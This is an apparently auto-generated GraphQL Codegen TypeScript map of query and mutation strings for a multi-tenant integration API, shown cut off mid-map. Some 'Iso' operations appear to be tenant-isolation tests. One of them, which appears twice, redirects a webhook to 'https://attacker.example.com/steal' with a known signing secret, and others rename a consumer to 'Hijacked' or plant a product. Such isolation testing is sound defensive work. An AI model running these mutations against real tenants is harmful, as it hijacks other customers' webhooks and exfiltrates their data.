/* eslint-disable */
import * as types from './graphql.js';
import type { TypedDocumentNode as DocumentNode } from '@graphql-typed-document-node/core';

/**
 * Map of all GraphQL operations in the project.
 *
 * This map has several performance disadvantages:
 * 1. It is not tree-shakeable, so it will include all operations in the project.
 * 2. It is not minifiable, so the string of a GraphQL query will be multiple times inside the bundle.
 * 3. It does not support dead code elimination, so it will add unused operations.
 *
 * Therefore it is highly recommended to use the babel or swc plugin for production.
 * Learn more about it here: https://the-guild.dev/graphql/codegen/plugins/presets/preset-client#reducing-bundle-size
 */
type Documents = {
    "\n  query ApiClients($first: Int) {\n    apiClients(first: $first) {\n      totalCount\n      pageInfo { hasNextPage }\n      nodes { __typename id clientId name scopes createdOn lastUsedOn }\n    }\n  }\n": typeof types.ApiClientsDocument,
    "\n  mutation CreateApiClient($input: CreateApiClientInput!) {\n    createApiClient(input: $input) {\n      apiClient { id clientId name scopes createdOn lastUsedOn }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n": typeof types.CreateApiClientDocument,
    "\n  mutation RotateApiClient($input: RotateApiClientInput!) {\n    rotateApiClient(input: $input) {\n      apiClient { clientId name }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n": typeof types.RotateApiClientDocument,
    "\n  mutation DeleteApiClient($input: DeleteApiClientInput!) {\n    deleteApiClient(input: $input) {\n      deletedId\n      userErrors { code field message }\n    }\n  }\n": typeof types.DeleteApiClientDocument,
    "\n  query ApiClientNode($id: ID!) {\n    node(id: $id) { __typename id ... on ApiClient { name } }\n  }\n": typeof types.ApiClientNodeDocument,
    "\n  query LinkedAccountHealth($id: ID!) {\n    consumer(id: $id) {\n      connections {\n        id\n        createdOn\n        lastError { code message detail occurredOn }\n      }\n    }\n  }\n": typeof types.LinkedAccountHealthDocument,
    "\n  query IsoLists($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n    webhooks { nodes { id accountId } totalCount }\n  }\n": typeof types.IsoListsDocument,
    "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n": typeof types.IsoConsumerDocument,
    "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n": typeof types.IsoConnectionsDocument,
    "\n  mutation IsoUpdateConsumer($id: ID!) {\n    updateConsumer(input: { id: $id, name: \"Hijacked\" }) { consumer { id } userErrors { code field message } }\n  }\n": typeof types.IsoUpdateConsumerDocument,
    "\n  mutation IsoDeleteConsumer($id: ID!) {\n    deleteConsumer(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": typeof types.IsoDeleteConsumerDocument,
    "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(input: { consumerId: $consumerId, integrationId: 1 }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n": typeof types.IsoCreateConnectionDocument,
    "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(input: { consumerId: $consumerId, connectionId: $connectionId, status: INACTIVE }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n": typeof types.IsoUpdateConnectionDocument,
    "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(input: { consumerId: $consumerId, connectionId: $connectionId }) {\n      deletedId userErrors { code field message }\n    }\n  }\n": typeof types.IsoDeleteConnectionDocument,
    "\n  query IsoInvoicingTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n": typeof types.IsoInvoicingTaxesDocument,
    "\n  query IsoOpportunities($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { opportunities { totalCount nodes { remoteId } } } }\n  }\n": typeof types.IsoOpportunitiesDocument,
    "\n  query IsoContact($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { contact(remoteId: \"contact-0001\") { remoteId } } }\n  }\n": typeof types.IsoContactDocument,
    "\n  mutation IsoCreateProduct($id: ID!, $connectionId: ID) {\n    createProduct(input: { consumerId: $id, connectionId: $connectionId, name: \"Planted\" }) {\n      product { id remoteId } userErrors { code field message }\n    }\n  }\n": typeof types.IsoCreateProductDocument,
    "\n  query IsoModifiers($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pos(connectionId: $connectionId) { modifiers { totalCount nodes { remoteId } } } }\n  }\n": typeof types.IsoModifiersDocument,
    "\n  query IsoPmsTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n": typeof types.IsoPmsTaxesDocument,
    "\n  query IsoPmsOrders($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { orders(state: CLOSED) { totalCount nodes { remoteId } } } }\n  }\n": typeof types.IsoPmsOrdersDocument,
    "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n": typeof types.IsoWebhookDocument,
    "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { totalCount nodes { id } } } }\n": typeof types.IsoWebhookLogsDocument,
    "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(\n      input: { id: $id, url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }\n    ) { webhook { id } userErrors { code field message } }\n  }\n": typeof types.IsoUpdateWebhookDocument,
    "\n  mutation IsoDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": typeof types.IsoDeleteWebhookDocument,
    "\n  mutation IsoTestWebhook($id: ID!) {\n    testWebhook(input: { id: $id }) { log { id } userErrors { code field message } }\n  }\n": typeof types.IsoTestWebhookDocument,
    "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { totalCount nodes { id name email internalReference redirectUrl } }\n  }\n": typeof types.MgmtConsumersDocument,
    "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n": typeof types.MgmtConsumerDocument,
    "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) {\n      consumer { id name email internalReference redirectUrl }\n      userErrors { code field message }\n    }\n  }\n": typeof types.MgmtCreateConsumerDocument,
    "\n  mutation MgmtCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      linkedAccount { id name integration integrationId api status data }\n      connectUrl\n      userErrors { code field message }\n    }\n  }\n": typeof types.MgmtCreateConnectionDocument,
    "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n": typeof types.MgmtIntegrationsDocument,
    "\n  query MgmtWebhooks {\n    webhooks { totalCount nodes { id accountId createdOn event url status createdBy integrationId } }\n  }\n": typeof types.MgmtWebhooksDocument,
    "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n": typeof types.MgmtWebhookDocument,
    "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs {\n        totalCount\n        nodes { id webhookId event url accountId createdOn httpStatus integrationId }\n      }\n    }\n  }\n": typeof types.MgmtWebhookLogsDocument,
    "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event name api }\n  }\n": typeof types.MgmtWebhookEventTypesDocument,
    "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n": typeof types.MgmtCreateWebhookDocument,
    "\n  mutation MgmtUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n": typeof types.MgmtUpdateWebhookDocument,
    "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": typeof types.MgmtDeleteWebhookDocument,
    "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n  }\n": typeof types.OpsConsumersDocument,
    "\n  mutation OpsUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": typeof types.OpsUpdateWebhookDocument,
    "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": typeof types.ServiceIntegrationsDocument,
    "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(first: 3) {\n          totalCount\n          pageInfo {\n            hasNextPage\n          }\n          nodes {\n            id\n            remoteId\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n": typeof types.ServiceDemoConsumerDocument,
    "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": typeof types.TrustedIntegrationsDocument,
    "\n  query TokConsumers {\n    consumers(first: 50) { nodes { id } totalCount }\n  }\n": typeof types.TokConsumersDocument,
    "\n  query MewsOrders($id: ID!, $first: Int, $after: String, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          totalCount\n          pageInfo { hasNextPage }\n          nodes {\n            id\n            remoteId\n            sourceRef { remoteId model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { name taxId taxRate taxAmount total }\n            items { remoteId quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { remoteId name total type } }\n            reservation { remoteId startDate endDate creationDate resourceName resourceIdentifier resourceId { remoteId sourceRef { remoteId model } } }\n            bills { remoteId invoiceNumber creationDate closingDate partners { remoteId type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n": typeof types.MewsOrdersDocument,
    "\n  query MewsOrderTaxes($id: ID!, $from: Date, $to: Date) {\n    consumer(id: $id) {\n      pms {\n        orders(first: 100, dateFrom: $from, dateTo: $to) {\n          nodes {\n            remoteId\n            items { remoteId taxId taxRate tax { remoteId rate } }\n            taxes { taxId tax { remoteId } }\n          }\n        }\n      }\n    }\n  }\n": typeof types.MewsOrderTaxesDocument,
    "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { name pms { taxes(first: 1) { totalCount } } }\n  }\n": typeof types.MewsTaxesFailureDocument,
    "\n  query MewsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          totalCount\n          pageInfo { hasNextPage endCursor }\n          nodes { id remoteId sourceRef { remoteId model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n": typeof types.MewsTaxesDocument,
    "\n  query OdooFourContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(remoteId: \"10\") { remoteId companyName addresses { addressType } }\n        b: contact(remoteId: \"11\") { remoteId firstName companyId }\n        c: contact(remoteId: \"14\") { remoteId isSupplier }\n        d: contact(remoteId: \"999\") { remoteId }\n      }\n    }\n  }\n": typeof types.OdooFourContactsDocument,
    "\n  mutation OdooCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        id remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n": typeof types.OdooCreateProductDocument,
    "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { id pos { modifiers { totalCount } } } }\n": typeof types.SquareModifiersErrorDocument,
    "\n  query SquareModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } raw }\n          totalCount\n          pageInfo { hasNextPage }\n        }\n      }\n    }\n  }\n": typeof types.SquareModifiersDocument,
    "\n  query PosOrdersWithReferences($id: ID!, $location: String) {\n    consumer(id: $id) {\n      pos {\n        orders(first: 100, state: CLOSED, locationId: $location) {\n          totalCount\n          nodes {\n            id\n            remoteId\n            total\n            customerId\n            location { remoteId name timezone }\n            customer { remoteId name email }\n            items {\n              productId\n              product { remoteId name categories { remoteId name parent { remoteId name } } }\n              tax { remoteId rate }\n              accountingCategory { remoteId ledgerAccountCode }\n            }\n            payments { total paymentMethodId paymentMethod { remoteId name extra } }\n          }\n        }\n      }\n    }\n  }\n": typeof types.PosOrdersWithReferencesDocument,
    "\n  query PosComputed($id: ID!, $from: Date!, $to: Date!, $day: Date!) {\n    consumer(id: $id) {\n      pos {\n        sales(dateFrom: $from, dateTo: $to, locationId: \"LOC-LIS\") { total taxAmount taxes { taxRate tax { label } } }\n        closure(date: $day, locationId: \"LOC-LIS\") {\n          date\n          status\n          closures { remoteId total payments { total tip paymentMethod { name } } }\n        }\n        report(date: $day, locationId: \"LOC-LIS\") {\n          date\n          location { remoteId }\n          orders { category totalOrders total }\n          payments { total paymentMethodName }\n        }\n        objectives(first: 10, dateFrom: $day, dateTo: $day) { totalCount nodes { date total } }\n        productCategories(onlyParents: true) { nodes { remoteId idParent } }\n        payments(first: 5, dateFrom: $day, dateTo: $day) { totalCount nodes { remoteId total paymentMethod { extra } } }\n      }\n    }\n  }\n": typeof types.PosComputedDocument,
    "\n  mutation PosCreateCustomer($input: CreatePosCustomerInput!) {\n    createPosCustomer(input: $input) {\n      posCustomer { id remoteId name email addresses { city country } }\n      userErrors { code field message }\n    }\n  }\n": typeof types.PosCreateCustomerDocument,
    "\n  mutation PosSetOrderCustomer($input: UpdatePosOrderCustomerInput!) {\n    updatePosOrderCustomer(input: $input) {\n      posOrder { remoteId customerId customer { remoteId name } }\n      userErrors { code field message }\n    }\n  }\n": typeof types.PosSetOrderCustomerDocument,
    "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n": typeof types.ErrConsumerDocument,
    "\n  query ErrConsumers {\n    consumers { nodes { id } }\n  }\n": typeof types.ErrConsumersDocument,
    "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { consumer { id } userErrors { code field message } }\n  }\n": typeof types.ErrCreateConsumerDocument,
    "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(first: 2) { totalCount nodes { remoteId } } } }\n  }\n": typeof types.ErrTaxesDocument,
    "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(first: 2) { totalCount } } }\n  }\n": typeof types.ErrOpportunitiesDocument,
    "\n  query ErrContact($id: ID!, $contact: String!) {\n    consumer(id: $id) { invoicing { contact(remoteId: $contact) { remoteId } } }\n  }\n": typeof types.ErrContactDocument,
    "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(first: 2) { totalCount } } }\n  }\n": typeof types.ErrModifiersDocument,
    "\n  mutation ErrCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) { product { remoteId name } userErrors { code field message } }\n  }\n": typeof types.ErrCreateProductDocument,
    "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": typeof types.ErrCreateWebhookDocument,
    "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n": typeof types.ErrWebhookDocument,
    "\n  mutation ErrUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": typeof types.ErrUpdateWebhookDocument,
    "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": typeof types.ErrDeleteWebhookDocument,
    "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n": typeof types.ErrIntegrationsDocument,
    "\n  query ParityTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate type code scope active }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n": typeof types.ParityTaxesDocument,
    "\n  query ParityOpportunities($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(first: $first, after: $after) {\n          nodes {\n            remoteId sourceRef { remoteId model } name total probability status partnerId comment currency\n            description pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { remoteId model name }\n          }\n          totalCount\n        }\n      }\n    }\n  }\n": typeof types.ParityOpportunitiesDocument,
    "\n  query ParityContact($id: ID!, $contact: String!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(remoteId: $contact) {\n          remoteId sourceRef { remoteId model } isProspect isCustomer isSupplier isCompany companyName firstName\n          lastName email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n": typeof types.ParityContactDocument,
    "\n  query ParityModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } }\n          totalCount\n        }\n      }\n    }\n  }\n": typeof types.ParityModifiersDocument,
    "\n  query ParityPmsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate isCityTax }\n          totalCount\n        }\n      }\n    }\n  }\n": typeof types.ParityPmsTaxesDocument,
    "\n  query ParityPmsOrders(\n    $id: ID!\n    $first: Int\n    $after: String\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          nodes {\n            remoteId sourceRef { remoteId model } creationDate closingDate serviceDate total taxAmount orderNumber\n            deviceId totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total }\n            items {\n              remoteId sourceRef { remoteId model } quantity unitPrice total taxAmount type menuId taxRate taxId\n              description discounts { remoteId name total type } productId accountingCategoryId\n            }\n            reservation {\n              remoteId sourceRef { remoteId model } startDate endDate creationDate\n              resourceId { remoteId sourceRef { remoteId model } } resourceName resourceIdentifier\n            }\n            bills {\n              remoteId sourceRef { remoteId model } invoiceNumber creationDate closingDate\n              partners {\n                remoteId sourceRef { remoteId model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n": typeof types.ParityPmsOrdersDocument,
    "\n  mutation ParityCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n": typeof types.ParityCreateProductDocument,
};
const documents: Documents = {
    "\n  query ApiClients($first: Int) {\n    apiClients(first: $first) {\n      totalCount\n      pageInfo { hasNextPage }\n      nodes { __typename id clientId name scopes createdOn lastUsedOn }\n    }\n  }\n": types.ApiClientsDocument,
    "\n  mutation CreateApiClient($input: CreateApiClientInput!) {\n    createApiClient(input: $input) {\n      apiClient { id clientId name scopes createdOn lastUsedOn }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n": types.CreateApiClientDocument,
    "\n  mutation RotateApiClient($input: RotateApiClientInput!) {\n    rotateApiClient(input: $input) {\n      apiClient { clientId name }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n": types.RotateApiClientDocument,
    "\n  mutation DeleteApiClient($input: DeleteApiClientInput!) {\n    deleteApiClient(input: $input) {\n      deletedId\n      userErrors { code field message }\n    }\n  }\n": types.DeleteApiClientDocument,
    "\n  query ApiClientNode($id: ID!) {\n    node(id: $id) { __typename id ... on ApiClient { name } }\n  }\n": types.ApiClientNodeDocument,
    "\n  query LinkedAccountHealth($id: ID!) {\n    consumer(id: $id) {\n      connections {\n        id\n        createdOn\n        lastError { code message detail occurredOn }\n      }\n    }\n  }\n": types.LinkedAccountHealthDocument,
    "\n  query IsoLists($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n    webhooks { nodes { id accountId } totalCount }\n  }\n": types.IsoListsDocument,
    "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n": types.IsoConsumerDocument,
    "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n": types.IsoConnectionsDocument,
    "\n  mutation IsoUpdateConsumer($id: ID!) {\n    updateConsumer(input: { id: $id, name: \"Hijacked\" }) { consumer { id } userErrors { code field message } }\n  }\n": types.IsoUpdateConsumerDocument,
    "\n  mutation IsoDeleteConsumer($id: ID!) {\n    deleteConsumer(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": types.IsoDeleteConsumerDocument,
    "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(input: { consumerId: $consumerId, integrationId: 1 }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n": types.IsoCreateConnectionDocument,
    "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(input: { consumerId: $consumerId, connectionId: $connectionId, status: INACTIVE }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n": types.IsoUpdateConnectionDocument,
    "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(input: { consumerId: $consumerId, connectionId: $connectionId }) {\n      deletedId userErrors { code field message }\n    }\n  }\n": types.IsoDeleteConnectionDocument,
    "\n  query IsoInvoicingTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n": types.IsoInvoicingTaxesDocument,
    "\n  query IsoOpportunities($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { opportunities { totalCount nodes { remoteId } } } }\n  }\n": types.IsoOpportunitiesDocument,
    "\n  query IsoContact($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { contact(remoteId: \"contact-0001\") { remoteId } } }\n  }\n": types.IsoContactDocument,
    "\n  mutation IsoCreateProduct($id: ID!, $connectionId: ID) {\n    createProduct(input: { consumerId: $id, connectionId: $connectionId, name: \"Planted\" }) {\n      product { id remoteId } userErrors { code field message }\n    }\n  }\n": types.IsoCreateProductDocument,
    "\n  query IsoModifiers($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pos(connectionId: $connectionId) { modifiers { totalCount nodes { remoteId } } } }\n  }\n": types.IsoModifiersDocument,
    "\n  query IsoPmsTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n": types.IsoPmsTaxesDocument,
    "\n  query IsoPmsOrders($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { orders(state: CLOSED) { totalCount nodes { remoteId } } } }\n  }\n": types.IsoPmsOrdersDocument,
    "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n": types.IsoWebhookDocument,
    "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { totalCount nodes { id } } } }\n": types.IsoWebhookLogsDocument,
    "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(\n      input: { id: $id, url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }\n    ) { webhook { id } userErrors { code field message } }\n  }\n": types.IsoUpdateWebhookDocument,
    "\n  mutation IsoDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": types.IsoDeleteWebhookDocument,
    "\n  mutation IsoTestWebhook($id: ID!) {\n    testWebhook(input: { id: $id }) { log { id } userErrors { code field message } }\n  }\n": types.IsoTestWebhookDocument,
    "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { totalCount nodes { id name email internalReference redirectUrl } }\n  }\n": types.MgmtConsumersDocument,
    "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n": types.MgmtConsumerDocument,
    "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) {\n      consumer { id name email internalReference redirectUrl }\n      userErrors { code field message }\n    }\n  }\n": types.MgmtCreateConsumerDocument,
    "\n  mutation MgmtCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      linkedAccount { id name integration integrationId api status data }\n      connectUrl\n      userErrors { code field message }\n    }\n  }\n": types.MgmtCreateConnectionDocument,
    "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n": types.MgmtIntegrationsDocument,
    "\n  query MgmtWebhooks {\n    webhooks { totalCount nodes { id accountId createdOn event url status createdBy integrationId } }\n  }\n": types.MgmtWebhooksDocument,
    "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n": types.MgmtWebhookDocument,
    "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs {\n        totalCount\n        nodes { id webhookId event url accountId createdOn httpStatus integrationId }\n      }\n    }\n  }\n": types.MgmtWebhookLogsDocument,
    "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event name api }\n  }\n": types.MgmtWebhookEventTypesDocument,
    "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n": types.MgmtCreateWebhookDocument,
    "\n  mutation MgmtUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n": types.MgmtUpdateWebhookDocument,
    "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": types.MgmtDeleteWebhookDocument,
    "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n  }\n": types.OpsConsumersDocument,
    "\n  mutation OpsUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": types.OpsUpdateWebhookDocument,
    "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": types.ServiceIntegrationsDocument,
    "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(first: 3) {\n          totalCount\n          pageInfo {\n            hasNextPage\n          }\n          nodes {\n            id\n            remoteId\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n": types.ServiceDemoConsumerDocument,
    "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": types.TrustedIntegrationsDocument,
    "\n  query TokConsumers {\n    consumers(first: 50) { nodes { id } totalCount }\n  }\n": types.TokConsumersDocument,
    "\n  query MewsOrders($id: ID!, $first: Int, $after: String, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          totalCount\n          pageInfo { hasNextPage }\n          nodes {\n            id\n            remoteId\n            sourceRef { remoteId model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { name taxId taxRate taxAmount total }\n            items { remoteId quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { remoteId name total type } }\n            reservation { remoteId startDate endDate creationDate resourceName resourceIdentifier resourceId { remoteId sourceRef { remoteId model } } }\n            bills { remoteId invoiceNumber creationDate closingDate partners { remoteId type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n": types.MewsOrdersDocument,
    "\n  query MewsOrderTaxes($id: ID!, $from: Date, $to: Date) {\n    consumer(id: $id) {\n      pms {\n        orders(first: 100, dateFrom: $from, dateTo: $to) {\n          nodes {\n            remoteId\n            items { remoteId taxId taxRate tax { remoteId rate } }\n            taxes { taxId tax { remoteId } }\n          }\n        }\n      }\n    }\n  }\n": types.MewsOrderTaxesDocument,
    "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { name pms { taxes(first: 1) { totalCount } } }\n  }\n": types.MewsTaxesFailureDocument,
    "\n  query MewsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          totalCount\n          pageInfo { hasNextPage endCursor }\n          nodes { id remoteId sourceRef { remoteId model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n": types.MewsTaxesDocument,
